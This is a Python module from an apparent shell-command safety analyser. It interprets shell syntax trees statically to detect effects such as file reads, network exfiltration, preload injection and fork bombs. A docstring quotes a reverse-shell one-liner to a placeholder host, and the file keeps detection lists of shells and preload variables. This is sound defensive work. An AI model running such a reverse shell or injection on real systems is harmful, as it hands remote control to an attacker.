"""Walks a syntax tree as a shell would run it, and collects the effects instead of causing them."""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field, replace

from checkrein.core.effect import UNKNOWN, Effect, EffectKind, Flag
from checkrein.detect.shell import builtins, outputs
from checkrein.detect.shell.expand import GLOB, Expander, bounded
from checkrein.detect.shell.files import is_device
from checkrein.detect.shell.languages import interpreter_language, language_of
from checkrein.detect.shell.lexer import BEYOND
from checkrein.detect.shell.model import Argv, Invocation, Outcome, ScriptFile, ShellText, Snippet, World, absolute
from checkrein.detect.shell.nodes import (
    AndOr,
    Arithmetic,
    Assignment,
    Background,
    Case,
    Command,
    For,
    Function,
    Group,
    If,
    Literal,
    Parameter,
    Part,
    Pipeline,
    Process,
    Redirect,
    Script,
    Simple,
    Substitution,
    Test,
    While,
    Word,
)
from checkrein.detect.shell.parser import parse
from checkrein.detect.shell.registry import handler_for, is_described
from checkrein.detect.shell.sql import looks_like_sql, sql_outcomes
from checkrein.detect.shell.state import State
from checkrein.detect.shell.values import ANYTHING, NUL, SILENT, Stream, Value, files_in, network_in

PRELOADS = frozenset(("LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"))
MAX_SOURCE = {"perl": 6_000}
"""Characters of a snippet that are looked into, by language; the perl grammar takes more than linear time on crafted text."""
USUAL_SOURCE = 24_000
MAX_STEPS = 4_000
MAX_DEPTH = 24
MAX_SCENARIOS = 8
MAX_ITERATIONS = 200
MAX_RECURSION = 3
STANDARD_INPUT = frozenset(("/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"))
PRINTS_VARIABLES = frozenset(("env", "printenv"))
SHELLS = frozenset(("sh", "bash", "zsh", "dash", "ksh", "cmd", "powershell", "pwsh"))
SILENT_DEVICES = frozenset(
    ("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/stdin", "/dev/zero", "/dev/random", "/dev/urandom")
)


@dataclass(frozen=True, slots=True)
class Frame:
    """Where a command runs: its shell, its standard input, and what is true of all its effects."""

    state: State
    stdin: Stream | None = None
    flags: Flag = Flag.NONE
    depth: int = 0
    calls: tuple[str, ...] = ()  # functions being run
    line: Value | None = None  # what `read` gives next
    parallel: bool = False  # in a pipeline or in the background


@dataclass(slots=True)
class Analysis:
    """What a command line would do. ``programs`` are all programs that it starts, in order."""

    effects: list[Effect] = field(default_factory=list)
    programs: list[tuple[str, ...]] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)


class Interpreter:
    """One analysis. Not reusable."""

    def __init__(self, world: World) -> None:
        self.world = world
        self.analysis = Analysis()
        self._seen: set[Effect] = set()
        self._steps = 0
        self._descriptors = itertools.count(63)
        self._readers: dict[str, tuple[Script, Frame]] = {}  # >(...): what reads what is written there
        self._taken: dict[int, tuple[object, int]] = {}  # how many lines `read` took of a stream

    # -- texts and scripts

    def text(self, text: str, frame: Frame) -> Stream:
        """Run shell code."""
        if frame.depth > MAX_DEPTH:
            self.unresolved("code that runs code", f"is nested more than {MAX_DEPTH} deep", frame)
            return Stream()
        script = parse(text.replace(NUL, ""))
        for problem in script.problems:
            self.analysis.problems.append(problem)
            if problem.startswith(BEYOND):
                self.unresolved("a very long or deep command", problem, frame)
        return self.script(script, replace(frame, depth=frame.depth + 1))

    def script(self, script: Script, frame: Frame) -> Stream:
        """Run commands one after the other; their outputs joined."""
        output = SILENT
        for command in script.commands:
            produced = self.command(command, frame)
            output = output + produced if len(output.text) < 1_000_000 else output
        return output

    def command(self, node: Command, frame: Frame) -> Stream:
        """Run one command of any kind."""
        match node:
            case Simple():
                return self._simple(node, frame)
            case Pipeline(commands):
                return self._pipeline(commands, frame)
            case AndOr():
                return self._and_or(node, frame)
            case Background(command):
                return self.command(command, replace(frame, state=frame.state.fork(), parallel=True))
            case Group(body, subshell, redirects):
                state = frame.state.fork() if subshell else frame.state
                return self._redirected(redirects, replace(frame, state=state), body)
            case If():
                return self._if(node, frame)
            case For():
                return self._for(node, frame)
            case While():
                return self._while(node, frame)
            case Case():
                return self._case(node, frame)
            case Function(name, body):
                frame.state.functions[name] = (body,)
                return SILENT
            case Test(words, redirects):
                expander = self._expander(frame)
                expander.fields(words)
                for word in words:
                    expander.calculate("".join(part.text for part in word.parts if isinstance(part, Literal)))
                self._redirections(redirects, frame)
                return SILENT

    def _redirected(self, redirects: Sequence[Redirect], frame: Frame, body: Script) -> Stream:
        stdin, sinks = self._redirections(redirects, frame)
        output = self.script(body, replace(frame, stdin=stdin or frame.stdin))
        return self._sink(output, sinks, frame)

    def _pipeline(self, commands: Sequence[Command], frame: Frame) -> Stream:
        stream = frame.stdin
        for command in commands:
            stream = self.command(command, replace(frame, state=frame.state.fork(), stdin=stream, parallel=True))
        return stream or SILENT

    def _and_or(self, node: AndOr, frame: Frame) -> Stream:
        """Every command of a chain may run or not; the first one does."""
        chain: list[Command] = []
        first: Command = node
        while isinstance(first, AndOr):
            chain.append(first.right)
            first = first.left
        output = self.command(first, frame)
        for right in reversed(chain):
            taken = frame.state.fork()
            output = output + self.command(right, replace(frame, state=taken))
            frame.state.merge((frame.state.fork(), taken))
        return output

    def _if(self, node: If, frame: Frame) -> Stream:
        stdin, sinks = self._redirections(node.redirects, frame)
        inner = replace(frame, stdin=stdin or frame.stdin)
        output = SILENT
        branches = [] if not node.branches[-1][0].commands else [frame.state.fork()]  # with an else, one branch runs
        for condition, body in node.branches:
            self.script(condition, inner)
            branch = frame.state.fork()
            output = output + self.script(body, replace(inner, state=branch))
            branches.append(branch)
        frame.state.merge(branches)
        return self._sink(output, sinks, frame)

    def _case(self, node: Case, frame: Frame) -> Stream:
        stdin, sinks = self._redirections(node.redirects, frame)
        inner = replace(frame, stdin=stdin or frame.stdin)
        self._expander(frame).single(node.subject)
        output = SILENT
        branches = [frame.state.fork()]
        for patterns, body in node.items:
            self._expander(frame).fields(patterns)
            branch = frame.state.fork()
            output = output + self.script(body, replace(inner, state=branch))
            branches.append(branch)
        frame.state.merge(branches)
        return self._sink(output, sinks, frame)

    def _for(self, node: For, frame: Frame) -> Stream:
        stdin, sinks = self._redirections(node.redirects, frame)
        inner = replace(frame, stdin=stdin or frame.stdin)
        expander = self._expander(frame)
        expander.parts(node.header)
        expander.calculate("".join(part.text for part in node.header if isinstance(part, Literal)))
        values: Sequence[Value] = [ANYTHING]
        if node.name:
            values = frame.state.positional if node.words is None else self._choices(node.words, frame)
        output = SILENT
        distinct = list(dict.fromkeys(values))
        if len(distinct) > MAX_ITERATIONS:
            self.unresolved("a loop", f"runs over more than {MAX_ITERATIONS} values", frame)
        for value in distinct[:MAX_ITERATIONS]:
            if node.name:
                frame.state.set(node.name, value)
            output = output + self._round(node.body, inner)
        return self._sink(output, sinks, frame)

    def _round(self, body: Script, frame: Frame) -> Stream:
        """One round of a loop, and a second where the first left other variables for it."""
        if self._steps > MAX_STEPS:  # named where it was reached; loops in loops would go on counting for nothing
            return Stream()
        before = dict(frame.state.variables)
        output = self.script(body, frame)
        return output + self.script(body, frame) if frame.state.variables != before else output

    def _choices(self, words: tuple[Word, ...], frame: Frame) -> list[Value]:
        """The fields of words under all that their variables may be."""
        names = [name for name in _names(Simple(words)) if len(frame.state.variables.get(name, ())) > 1]
        choices = list(itertools.islice(itertools.product(*(frame.state.variables[name] for name in names)), MAX_SCENARIOS + 1))
        if len(choices) > MAX_SCENARIOS:
            return [ANYTHING]
        fields: list[Value] = []
        for values in choices:
            state = frame.state.fork() if names else frame.state
            for name, value in zip(names, values, strict=True):
                state.set(name, value)
            fields += self._expander(replace(frame, state=state)).fields(words)
        return fields

    def _while(self, node: While, frame: Frame) -> Stream:
        stdin, sinks = self._redirections(node.redirects, frame)
        stream = stdin or frame.stdin
        lines: list[Value] = [ANYTHING]
        if stream is not None:
            texts = dict.fromkeys(stream.text.rstrip("\n").split("\n"))
            lines = [Value(text, origins=stream.origins) for text in texts]
            if len(lines) > MAX_ITERATIONS:
                self.unresolved("a loop", f"runs over more than {MAX_ITERATIONS} lines", frame)
        output = SILENT
        for line in lines[:MAX_ITERATIONS]:
            inner = replace(frame, stdin=stream, line=line)
            self.script(node.condition, inner)
            output = output + self._round(node.body, inner)
        return self._sink(output, sinks, frame)

    # -- simple commands

    def _simple(self, node: Simple, frame: Frame) -> Stream:
        """Once for every combination of what its variables, and the folder, may be."""
        variables = frame.state.variables
        uncertain = [name for name in (*_names(node), "IFS") if len(variables.get(name, ())) > 1]
        places = (frame.state.cwd, *frame.state.folders_too)
        if not uncertain and len(places) == 1:
            return self._simple_once(node, frame)
        output = SILENT
        choices = itertools.product(places, itertools.product(*(variables[name] for name in uncertain)))
        states: list[State] = []
        for place, values in itertools.islice(choices, MAX_SCENARIOS):
            state = frame.state.fork()
            state.cwd, state.folders_too = place, ()
            for name, value in zip(uncertain, values, strict=True):
                state.set(name, value)
            output = output + self._simple_once(node, replace(frame, state=state))
            states.append(state)
        if next(choices, None) is not None:
            self.unresolved("a command", f"has more than {MAX_SCENARIOS} possible readings", frame)
        frame.state.merge(states)
        return output

    def _simple_once(self, node: Simple, frame: Frame) -> Stream:
        self._steps += 1
        if self._steps > MAX_STEPS:
            if self._steps == MAX_STEPS + 1:
                self.unresolved("this command", f"runs more than {MAX_STEPS} commands", frame)
            return Stream()
        expander = self._expander(frame)
        argv = expander.fields(node.words)
        environment = self._assign(node.assignments, expander, frame, lasting=not argv)
        opens = [value.text for value in argv] == ["exec"]
        stdin, sinks = self._redirections(node.redirects, frame, lasting=opens)
        if not argv:
            return self._sink(SILENT, sinks, frame)
        if interpreter_language(program_name(argv[0].text)) == "shell":
            self._connected(node.redirects, frame, argv[0].text)
        inner = replace(frame, stdin=stdin or frame.stdin or frame.state.inputs.get("0"))
        output = self.run(argv, inner, environment)
        return self._sink(output, sinks, frame)

    def _assign(
        self, assignments: Iterable[Assignment], expander: Expander, frame: Frame, *, lasting: bool
    ) -> dict[str, Value]:
        """Evaluate assignments; lasting ones change the shell, others are the environment of one command."""
        environment: dict[str, Value] = {}
        for item in assignments:
            index = expander.parts(item.subscript).strip() if item.subscript else ""
            if item.items is not None:
                self._assign_array(item, expander, frame.state)
                continue
            value = expander.single(item.value)
            if item.append:
                before = expander.parameter(Parameter(item.name, index=item.index, subscript=item.subscript))
                known = before[0] if item.name in frame.state.variables or item.name in frame.state.arrays else Value("")
                value = bounded(Value(known.text + value.text, origins=known.origins | value.origins))
            if item.index:
                frame.state.set_element(item.name, index, value)
            elif lasting:
                frame.state.set(item.name, value)
            else:
                environment[item.name] = value
        return environment

    def _assign_array(self, item: Assignment, expander: Expander, state: State) -> None:
        values = expander.fields(item.items or ())
        held = state.arrays.get(state.resolved(item.name), {}) if item.append else {}
        if not item.append:
            state.set_array(item.name, ())
        at = max(held, default=-1) + 1
        for value in values:
            keyed = re.fullmatch(r"\[(.*?)\]=(.*)", value.text, re.DOTALL)
            if keyed:
                state.set_element(item.name, keyed[1], Value(keyed[2], value.glob, value.origins))
                at = int(keyed[1][:6]) + 1 if keyed[1].isdecimal() else at
                continue
            state.set_element(item.name, str(at), value)
            at += 1

    # -- redirections

    def _redirections(
        self, redirects: Iterable[Redirect], frame: Frame, *, lasting: bool = False
    ) -> tuple[Stream | None, list[tuple[str, bool]]]:
        """Standard input, where it is redirected, and the files that standard output goes to (path, append).

        ``lasting`` ones (``exec 3<file``) stay open in the shell.
        """
        stdin: Stream | None = None
        sinks: list[tuple[str, bool]] = []
        opened = dict(frame.state.inputs)
        for redirect in redirects:
            expander = self._expander(frame)
            if redirect.heredoc is not None:
                value = expander.single(redirect.heredoc.body)
                stdin = Stream(value.text, value.origins)
                continue
            value = expander.single(redirect.target)
            if redirect.operator == "<<<":
                stdin = Stream(value.text + "\n", value.origins)
            elif redirect.operator in ("<", "<>"):
                opened[redirect.fd.strip("{}") or "0"] = read = self._input(value, frame)
                stdin = read if redirect.fd in ("", "0") else stdin
                if redirect.operator == "<>":
                    self._output(value, frame, append=True)
            elif redirect.operator in (">&", "<&") and (value.text.rstrip("-").isdecimal() or value.text in ("-", "")):
                if redirect.fd == "0" or (redirect.operator == "<&" and not redirect.fd):
                    stdin = opened.get(value.text.rstrip("-"), stdin)
            elif redirect.operator != "<&":
                path = self._output(value, frame, append=">>" in redirect.operator)
                if path and redirect.fd in ("", "1"):
                    sinks.append((path, ">>" in redirect.operator))
                elif path:
                    self._put(path, Stream(), frame, append=">>" in redirect.operator)
        if not lasting:
            return stdin, sinks
        frame.state.inputs.update(opened)
        return stdin, sinks

    def _connected(self, redirects: Iterable[Redirect], frame: Frame, program: str) -> None:
        """A shell that talks to a connection instead of a terminal: ``bash -i >& /dev/tcp/HOST/PORT 0>&1``."""
        for redirect in redirects:
            path = "" if redirect.heredoc else self.path(self._expander(frame).single(redirect.target), frame)
            if path.startswith(("/dev/tcp/", "/dev/udp/")):
                host = path.split("/")[3]
                detail = "a shell for whoever is at the other end"
                self.emit(Effect(EffectKind.RUN_FETCHED, host, program, rule="network.reverse-shell", detail=detail), frame)

    def _input(self, value: Value, frame: Frame) -> Stream:
        path = self.path(value, frame)
        if path.startswith(("/dev/tcp/", "/dev/udp/")):
            host = path.split("/")[3]
            self.emit(Effect(EffectKind.FETCH, host, "a shell redirection"), frame)
            return Stream(origins=frozenset((f"network:{host}",)))
        if path in SILENT_DEVICES and path not in STANDARD_INPUT:
            return SILENT if path == "/dev/null" else Stream()
        if not path.startswith("/dev/fd/"):
            flags = Flag.CONTENT_OUT | (Flag.GLOB if value.glob else Flag.NONE)
            self.emit(Effect(EffectKind.READ, path, "a shell redirection", flags=flags), frame)
        return self.content(path, frame)

    def _output(self, value: Value, frame: Frame, *, append: bool) -> str:
        """Record a redirection to a file; its path, "" where it is a device."""
        path = self.path(value, frame)
        if path in self._readers:
            return path
        if path in SILENT_DEVICES or path.startswith("/dev/fd/"):
            return ""
        if path.startswith(("/dev/tcp/", "/dev/udp/")):
            reads = files_in(frame.stdin.origins) if frame.stdin else ()
            self.emit(Effect(EffectKind.SEND, path.split("/")[3], "a shell redirection", reads=reads), frame)
            return ""
        return path

    def _sink(self, output: Stream, sinks: Iterable[tuple[str, bool]], frame: Frame) -> Stream:
        """Let ``output`` flow into the files, if there are any; what is left for the pipe."""
        written = False
        for path, append in sinks:
            written = True
            if path in self._readers:
                self._read_by(path, output)
                continue
            self._put(path, output, frame, append=append)
        return SILENT if written else output

    def _put(self, path: str, content: Stream, frame: Frame, *, append: bool) -> None:
        """A redirection to ``path``."""
        if is_device(path):
            self.emit(Effect(EffectKind.DEVICE, path, "a shell redirection"), frame)
        else:
            self.write(path, content, frame, append=append, program="a shell redirection")

    def write(self, path: str, content: Stream, frame: Frame, *, append: bool, program: str) -> None:
        """Record that ``content`` is put at ``path``, and remember it for what is run later."""
        text = None if UNKNOWN in content.text else content.text
        flags = Flag.APPEND if append else Flag.NONE
        effect = Effect(EffectKind.WRITE, path, program, flags=flags, reads=files_in(content.origins), text=text)
        self.emit(effect, frame)
        before = frame.state.files.get(path, SILENT) if append else SILENT
        frame.state.files[path] = before + content

    def finish(self) -> None:
        """Run the process substitutions that nothing was seen to write to."""
        while self._readers:
            self._read_by(next(iter(self._readers)), Stream())

    def _read_by(self, path: str, content: Stream) -> None:
        """Run what reads ``path``, a process substitution, on what was written there."""
        body, frame = self._readers.pop(path)
        self.script(body, replace(frame, stdin=content))

    def written(self, path: str, frame: Frame) -> Stream | None:
        """What this command wrote at a path, or feeds to it; None where it did neither."""
        return frame.stdin if path in STANDARD_INPUT else frame.state.files.get(path)

    def content(self, path: str, frame: Frame) -> Stream:
        """What is known of a file's content: what this command wrote there, else what is on disk."""
        if path in STANDARD_INPUT:
            return frame.stdin or Stream()
        if path in frame.state.files:
            return frame.state.files[path]
        origin = frozenset((f"file:{path}",))
        text = None if UNKNOWN in path else self.world.script(path)
        return Stream(UNKNOWN if text is None else text, origin)

    # -- running programs

    def run(self, argv: Sequence[Value], frame: Frame, environment: dict[str, Value] | None = None) -> Stream:
        """Run one command word with its arguments."""
        environment = environment or {}
        name = argv[0].text
        if frame.depth > MAX_DEPTH:
            self.unresolved(name, f"is nested more than {MAX_DEPTH} deep", frame)
            return Stream()
        state = frame.state
        output = SILENT
        if name in state.aliases and name not in frame.calls:
            # whether aliases are expanded depends on the shell: both readings count
            for text in state.aliases[name]:
                words = " ".join([text, *(quote(value.text) for value in argv[1:])])
                output += self.text(words, replace(frame, state=state.fork(), calls=(*frame.calls, name)))
        for body in state.functions.get(name, (None,)):
            if body is None:
                output += self.bare(argv, frame, environment)
            else:
                output += self._call(name, body, argv, frame, environment)
        return output

    def bare(self, argv: Sequence[Value], frame: Frame, environment: dict[str, Value]) -> Stream:
        """Run a builtin or a program, whatever functions and aliases of its name there are."""
        name = argv[0].text
        if name in builtins.TABLE:
            output = builtins.TABLE[name](self, argv, frame, environment)
            if output is not None:
                return output
        if UNKNOWN in name:
            return self._unknown_program(argv, frame)
        if argv[0].glob and GLOB.intersection(name):
            return self._named_by_pattern(argv, frame, environment)
        return self._external(argv, frame, environment)

    def _named_by_pattern(self, argv: Sequence[Value], frame: Frame, environment: dict[str, Value]) -> Stream:
        """``/bin/r?``: the first file that matches is the program, the others are its arguments."""
        matches = self.world.glob(self.path(argv[0], frame))
        if not matches:
            self.unresolved(" ".join(value.text for value in argv), "the program's name is a pattern", frame)
            return Stream()
        return self._external([*(Value(path) for path in matches), *argv[1:]], frame, environment)

    def _call(self, name: str, body: Command, argv: Sequence[Value], frame: Frame, environment: dict[str, Value]) -> Stream:
        own = f"{name} {id(body)}"  # a function of the same name may be defined anew while it runs
        call = " ".join((own, *(quote(value.text) for value in argv[1:])))
        if own in frame.calls and frame.parallel:
            self.emit(Effect(EffectKind.DESTRUCTIVE, name, "a function that starts itself", rule="system.fork-bomb"), frame)
            return Stream()
        if call in frame.calls:
            return Stream()
        if frame.calls.count(own) >= MAX_RECURSION:
            self.unresolved(name, "is a function that calls itself with ever new arguments", frame)
            return Stream()
        state = frame.state
        before, held = state.positional, dict(state.variables)
        state.positional = tuple(argv[1:])
        for key, value in environment.items():
            state.set(key, value)
        output = self.command(body, replace(frame, calls=(*frame.calls, own, call), depth=frame.depth + 1))
        state.positional = before
        for key in environment:
            state.variables.pop(key, None)
            if key in held:
                state.variables[key] = held[key]
        return output

    def _unknown_program(self, argv: Sequence[Value], frame: Frame) -> Stream:
        origins = argv[0].origins
        if url := network_in(origins):
            self.emit(
                Effect(EffectKind.RUN_FETCHED, url, "a command word", detail="the command itself comes over the network"), frame
            )
        else:
            words = " ".join(value.text for value in argv)
            self.unresolved(words, "the program's name is not known before it runs", frame)
        return Stream(origins=origins)

    def _external(self, argv: Sequence[Value], frame: Frame, environment: dict[str, Value]) -> Stream:
        written = argv[0].text
        name = program_name(written)
        texts = (name, *(value.text for value in argv[1:]))
        origins = frozenset[str]().union(*(value.origins for value in argv))
        origins |= frozenset().union(*(value.origins for value in environment.values()))
        stdin = frame.stdin
        exported = {key: frame.state.variables[key][0].text for key in frame.state.exported if key in frame.state.variables}
        invocation = Invocation(
            argv=texts,
            cwd=frame.state.cwd,
            world=self.world,
            path=written,
            stdin=stdin.text if stdin else None,
            origins=origins | (stdin.origins if stdin else frozenset()),
            env=exported | {key: value.text for key, value in environment.items()},
            globs=frozenset(at for at, value in enumerate(argv) if value.glob),
            flags=frame.flags,
        )
        self.analysis.programs.append(texts)
        inner = replace(frame, depth=frame.depth + 1)
        self._preloaded(invocation, inner)
        own = self._own_file(written, environment, frame)
        if own:
            return self.outcomes((ScriptFile(own, args=texts[1:]),), invocation, inner)
        produced = self.outcomes(handler_for(name)(invocation), invocation, inner)
        if looks_like_sql(" ".join(texts)):
            produced = self.outcomes((Snippet("sql", " ".join(texts)),), invocation, inner)
        known = outputs.output_of(invocation, lambda path: self.content(path, frame))
        if known is not None:
            return Stream(known.text, known.origins | invocation.origins)
        # a program that is given a variable need not print it; one that prints them all does
        given = frozenset(origin for origin in invocation.origins if not origin.startswith("sourced:"))
        shown = frame.state.sourced if name in PRINTS_VARIABLES else frozenset()
        return Stream(produced.text, produced.origins | given | shown)

    def _own_file(self, written: str, environment: dict[str, Value], frame: Frame) -> str:
        """The path of a program that this session wrote or nobody vouches for, given by path or found by way of PATH."""
        if "/" in written:
            places = [absolute(written, frame.state.cwd)]
        else:
            search = environment.get("PATH") or next(iter(frame.state.variables.get("PATH", ())), None)
            folders = search.text.split(":") if search else []
            places = [absolute(f"{folder or '.'}/{written}", frame.state.cwd) for folder in folders if UNKNOWN not in folder]
        return next((path for path in places if path in frame.state.files or self.world.script(path) is not None), "")

    def _preloaded(self, invocation: Invocation, frame: Frame) -> None:
        """Variables that make any program load code before its own."""
        for name in PRELOADS & invocation.env.keys():
            if invocation.env[name]:
                detail = f"{name} loads {invocation.env[name]} into the program"
                self.emit(Effect(EffectKind.RUN_UNKNOWN, invocation.env[name], invocation.name, detail=detail), frame)
        if code := invocation.env.get("BASH_ENV"):
            self.outcomes((ScriptFile(code, "shell"),), invocation, frame)

    def outcomes(self, items: Iterable[Outcome], invocation: Invocation, frame: Frame) -> Stream:
        """Record effects and run nested code; the output of nested code, or what the effects tell of the output."""
        nested: Stream | None = None
        origins: set[str] = set()
        produced: Stream | None
        for item in items:
            match item:
                case Effect():
                    item = self._completed(item, invocation)
                    if item.kind is EffectKind.WRITE and item.target in self._readers:
                        self._read_by(item.target, Stream(invocation.stdin or UNKNOWN, invocation.origins))
                        continue
                    self.emit(item, frame)
                    origins.update(_origin_of(item))
                    self._remember(item, frame)
                case ShellText():
                    produced = self._shell_text(item, frame)
                    nested = produced if nested is None else nested + produced
                case Argv():
                    produced = self._argv(item, invocation, frame)
                    nested = produced if nested is None else nested + produced
                case Snippet():
                    nested = self.snippet(
                        item.language, item.source, item.args, invocation, replace(frame, flags=frame.flags | item.flags)
                    )
                case ScriptFile():
                    nested = self._script_file(item, invocation, frame)
        return Stream(nested.text, nested.origins | origins) if nested else Stream(origins=frozenset(origins))

    def _shell_text(self, item: ShellText, frame: Frame) -> Stream:
        state = frame.state.fork()
        state.positional = tuple(Value(word) for word in item.args[1:])
        state.name = item.args[0] if item.args else "bash"
        state.cwd = item.cwd or state.cwd
        if item.flags & Flag.REMOTE:
            state = State(cwd=item.cwd or f"/{UNKNOWN}")
        return self.text(item.text, replace(frame, state=state, flags=frame.flags | item.flags))

    def _argv(self, item: Argv, invocation: Invocation, frame: Frame) -> Stream:
        if not item.argv:
            return Stream()
        words = [Value(word, glob=at in item.globs, origins=_kept(word, invocation)) for at, word in enumerate(item.argv)]
        if item.more:
            words.append(ANYTHING)
        state = frame.state.fork()
        state.cwd = item.cwd or state.cwd
        state.functions = {}
        state.aliases = {}
        state.positional = ()
        environment = {key: Value(text) for key, text in {**invocation.env, **item.env}.items()}
        return self.run(words, replace(frame, state=state, flags=frame.flags | item.flags), environment)

    def snippet(self, language: str, source: str, args: tuple[str, ...], invocation: Invocation, frame: Frame) -> Stream:
        """Run code of another language."""
        from checkrein.detect.shell.snippets import analyse_snippet

        if language == "sql":
            return self.outcomes(sql_outcomes(source), invocation, replace(frame, depth=frame.depth + 1))
        if len(source) > MAX_SOURCE.get(language, USUAL_SOURCE):
            self.unresolved(f"{language} code", f"has {len(source)} characters, more than are looked into", frame)
            return Stream()
        stdin = invocation.stdin
        items = analyse_snippet(language, source, cwd=frame.state.cwd, world=self.world, args=args, stdin=stdin)
        if _is_reverse_shell(items):
            self.emit(Effect(EffectKind.RUN_FETCHED, "another machine", language, rule="network.reverse-shell"), frame)
        return self.outcomes(items, invocation, replace(frame, depth=frame.depth + 1))

    def _script_file(self, item: ScriptFile, invocation: Invocation, frame: Frame) -> Stream:
        frame = replace(frame, flags=frame.flags | item.flags)
        path = absolute(item.path, frame.state.cwd)
        if frame.flags & Flag.REMOTE and self.written(path, frame) is None:
            return Stream()
        name = program_name(item.path)
        if name != invocation.name and is_described(name):  # manage.py, artisan
            self.run([Value(word) for word in (name, *item.args)], frame)
        written = self.written(path, frame)
        if written is not None and (url := network_in(written.origins)):
            self.emit(Effect(EffectKind.RUN_FETCHED, url, invocation.name, detail=path), frame)
            return Stream(origins=written.origins)
        text = written.text if written is not None else None if UNKNOWN in path else self.world.script(path)
        if text is None:
            self.emit(Effect(EffectKind.EXECUTE, path, invocation.name), frame)
            return Stream()
        call = " ".join((path, text, *item.args))
        if frame.depth > MAX_DEPTH or frame.calls.count(path) >= MAX_RECURSION:
            self.unresolved(path, "is a script that calls itself over and over", frame)
            return Stream()
        if call in frame.calls:
            return Stream()
        inner = replace(frame, calls=(*frame.calls, path, call))
        self.emit(Effect(EffectKind.EXECUTE, path, invocation.name, detail="judged by its content"), frame)
        return self.code(text, item.language or language_of(path, text), item.args, invocation, inner, source=path)

    def code(
        self, text: str, language: str, args: tuple[str, ...], invocation: Invocation, frame: Frame, *, source: str
    ) -> Stream:
        """Run text in whatever language it is; text that is partly unknown is also recorded as such."""
        if text.strip() == UNKNOWN:
            detail = f"{source} is not known before it runs"
            self.emit(Effect(EffectKind.RUN_UNKNOWN, source, invocation.name, detail=detail), frame)
            return Stream()
        if language == "shell":
            return self._shell_text(ShellText(text, (source, *args)), frame)
        if language:
            return self.snippet(language, text, args, invocation, frame)
        return Stream()

    def _completed(self, effect: Effect, invocation: Invocation) -> Effect:
        """Say what flows out: a SEND that reads standard input, or words made from a file, sends that file."""
        if effect.kind is EffectKind.SIGNAL and not effect.known:
            processes = [origin for origin in sorted(invocation.origins) if origin.startswith("process:")]
            return replace(effect, target=processes[0].removeprefix("process:"), program="pkill") if processes else effect
        if effect.kind not in (EffectKind.SEND, EffectKind.FETCH):
            return effect
        flowing = set(files_in(invocation.origins))
        named = {path for path in effect.reads if path not in ("-", "/dev/stdin", "@-")}
        if effect.kind is EffectKind.FETCH and not flowing:
            return effect
        return replace(effect, kind=EffectKind.SEND, reads=tuple(sorted(named | flowing)))

    def _remember(self, effect: Effect, frame: Frame) -> None:
        """What a program wrote is content for what runs later."""
        fetched = effect.detail.startswith("network:")
        if effect.kind is not EffectKind.WRITE or frame.flags & Flag.REMOTE or (effect.flags & Flag.CREATE and not fetched):
            return
        if effect.text is not None:
            frame.state.files[effect.target] = Stream(effect.text)
        elif effect.reads:
            held = [self.content(path, frame) if not path.startswith("http") else Stream() for path in effect.reads]
            if any(network_in(stream.origins) for stream in held) or any(path in frame.state.files for path in effect.reads):
                frame.state.files[effect.target] = held[0]
        elif fetched:
            frame.state.files[effect.target] = Stream(origins=frozenset((effect.detail,)))

    def next_line(self, frame: Frame) -> Value:
        """What ``read`` gives next: one line of standard input after the other."""
        source = frame.line or frame.stdin
        if source is None:
            return ANYTHING
        _, taken = self._taken.get(id(source), (source, 0))
        self._taken[id(source)] = (source, taken + 1)  # the source is held, so that its id stays its own
        if isinstance(source, Value):
            return source if taken == 0 else Value(UNKNOWN, origins=source.origins)
        lines = source.text.split("\n")
        known = taken < len(lines) and not any(UNKNOWN in line for line in lines[:taken])
        return Value(lines[taken] if known else "" if UNKNOWN not in source.text else UNKNOWN, origins=source.origins)

    # -- records

    def emit(self, effect: Effect, frame: Frame) -> None:
        """Record an effect once, with what is true of everything in this frame."""
        effect = replace(effect, flags=effect.flags | frame.flags) if frame.flags else effect
        if effect not in self._seen:
            self._seen.add(effect)
            self.analysis.effects.append(effect)

    def unresolved(self, what: str, why: str, frame: Frame) -> None:
        """Record that something could not be resolved."""
        self.emit(Effect(EffectKind.UNRESOLVED, what, "", detail=why), frame)

    # -- helpers

    def path(self, value: Value, frame: Frame) -> str:
        """A field as an absolute path."""
        return absolute(value.text, frame.state.cwd) if value.text else frame.state.cwd

    def _expander(self, frame: Frame) -> Expander:
        def substitute(body: Script) -> Value:
            inner = replace(frame, state=frame.state.fork(), depth=frame.depth + 1)
            if inner.depth > MAX_DEPTH:
                self.unresolved("a command substitution", f"is nested more than {MAX_DEPTH} deep", frame)
                return ANYTHING
            return self.script(body, inner).value()

        def process(body: Script, direction: str) -> str:
            path = f"/dev/fd/{next(self._descriptors)}"
            inner = replace(frame, state=frame.state.fork(), depth=frame.depth + 1)
            if direction == ">":
                self._readers[path] = (body, inner)
                return path
            frame.state.files[path] = self.script(body, inner) if inner.depth <= MAX_DEPTH else Stream()
            return path

        return Expander(frame.state, self.world, substitute, process)


def _is_reverse_shell(items: Iterable[Outcome]) -> bool:
    """True for code that connects to another machine and starts a bare shell."""
    connects = any(isinstance(item, Effect) and item.detail == "connects" for item in items)
    shells = any(
        isinstance(item, Argv) and item.argv and program_name(item.argv[0]) in SHELLS and len(item.argv) < 3 for item in items
    )
    texts = any(isinstance(item, ShellText) and program_name(item.text.split(" ")[0]) in SHELLS for item in items)
    return connects and (shells or texts)


def program_name(written: str) -> str:
    """The bare name of a program given by path, on Windows too: ``C:\\Git\\git.EXE`` is git."""
    name = written.rsplit("/", 1)[-1].rsplit("\\", 1)[-1]
    return name[:-4].lower() if name[-4:].lower() == ".exe" else name


def quote(text: str) -> str:
    """``text`` as one shell word."""
    return "'" + text.replace("'", "'\\''") + "'"


def _origin_of(effect: Effect) -> Iterator[str]:
    if effect.kind is EffectKind.READ and effect.flags & Flag.CONTENT_OUT:
        yield f"file:{effect.target}"
    elif effect.kind in (EffectKind.FETCH, EffectKind.SEND):
        yield f"network:{effect.target}"


def _kept(word: str, invocation: Invocation) -> frozenset[str]:
    """The origins of a word that a wrapper passes on: unknown text keeps where it came from."""
    return invocation.origins if UNKNOWN in word else frozenset()


def _names(node: Simple) -> list[str]:
    """The variables that a simple command's words refer to."""
    names: dict[str, None] = {}
    pending: list[Part] = [part for word in node.words for part in word.parts]
    pending += [part for item in node.assignments for part in item.value.parts]
    pending += [part for item in node.assignments for word in item.items or () for part in word.parts]
